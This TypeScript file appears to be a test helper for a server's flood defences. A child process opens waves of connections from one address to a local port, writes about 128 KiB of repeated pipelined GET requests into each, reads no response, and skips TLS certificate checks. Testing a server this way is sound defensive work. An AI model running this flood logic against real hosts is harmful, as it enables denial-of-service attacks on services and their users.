// The attacker, in its own process: opens many connections from one address, fills each with the same request, and
// reads nothing. It does so in waves until the attack ends.
import { connect as connectPlain, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { connect as connectTls } from "node:tls";

export interface AttackOrder {
  readonly port: number;
  readonly isTls: boolean;
  /** Value of `Host`. */
  readonly host: string;
  readonly path: string;
  /** Address of the attacker. */
  readonly from: string;
  readonly connections: number;
  readonly durationMs: number;
}

export interface AttackReport {
  /** Connections of all waves. */
  readonly opened: number;
}

const bytesPerConnection = 128 * 1024;
/** Shortest time that a wave stays. */
const waveMs = 250;

process.on("message", (order: AttackOrder) => {
  void attack(order).then((report) => process.send!(report));
});

async function attack(order: AttackOrder): Promise<AttackReport> {
  const request = `GET ${order.path} HTTP/1.1\r\nHost: ${order.host}\r\n\r\n`;
  const flood = Buffer.from(request.repeat(Math.ceil(bytesPerConnection / request.length)));
  const untilMs = performance.now() + order.durationMs;
  let opened = 0;
  do {
    const sockets = Array.from({ length: order.connections }, () => openSocket(order, flood));
    opened += sockets.length;
    await Promise.all([pause(waveMs), ...sockets.map((socket) => whenUsed(socket, order))]);
    for (const socket of sockets) socket.destroy();
  } while (performance.now() < untilMs);
  return { opened };
}

function openSocket({ port, isTls, from }: AttackOrder, flood: Buffer): Socket {
  const address = { port, host: "127.0.0.1", localAddress: from };
  const socket = isTls ? connectTls({ ...address, rejectUnauthorized: false }) : connectPlain(address);
  socket.on("error", () => {
    // `close` follows.
  });
  socket.pause().write(flood);
  return socket;
}

/** Resolves when the connection is open or refused. */
function whenUsed(socket: Socket, { isTls }: AttackOrder): Promise<void> {
  return new Promise((resolve) => {
    socket.once(isTls ? "secureConnect" : "connect", resolve).once("close", resolve);
  });
}
